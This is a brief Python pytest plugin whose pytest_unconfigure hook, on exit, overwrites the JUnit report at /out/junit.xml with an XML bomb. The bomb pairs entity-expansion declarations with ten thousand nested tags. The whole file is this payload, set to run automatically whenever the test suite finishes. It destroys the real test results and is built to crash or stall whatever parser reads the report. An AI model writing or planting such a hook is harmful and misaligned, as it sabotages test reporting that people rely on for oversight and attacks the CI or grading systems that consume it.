"""Puts a bomb in the place of the report."""

import atexit
from pathlib import Path

ENTITIES = '<!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
BOMB = ENTITIES + '<testsuites><testsuite name="&b;">' + "<properties>" * 10_000


def pytest_unconfigure():
    """Overwrite the report once pytest has written it."""
    atexit.register(lambda: Path("/out/junit.xml").write_text(BOMB))
